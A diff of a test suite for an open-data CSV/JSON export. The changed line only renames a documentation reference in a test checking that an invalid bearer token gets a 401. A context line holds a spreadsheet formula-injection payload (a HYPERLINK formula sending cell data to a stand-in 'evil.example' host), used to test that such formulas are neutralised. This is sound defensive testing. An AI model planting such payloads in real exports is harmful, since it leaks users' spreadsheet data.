@@ -84,7 +84,7 @@ describe('open data CSV: a cell a spreadsheet would run as a formula is neutrali
     expect(json.structures.find((s) => s.code === 'OD-F')!.name).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Apri")');
   });
 
-  it('answers 401 to a present but invalid token, as POST /graphql does (PRIVACY.md §1: never degraded to anonymous)', async () => {
+  it('answers 401 to a present but invalid token, as POST /graphql does (docs/privacy.md §1: never degraded to anonymous)', async () => {
     const base = hub.url.replace(/\/graphql$/, '');
     for (const path of ['/open-data/structures.csv', '/open-data/structures.json']) {
       const res = await fetch(`${base}${path}`, { headers: { authorization: 'Bearer not-a-token' } });
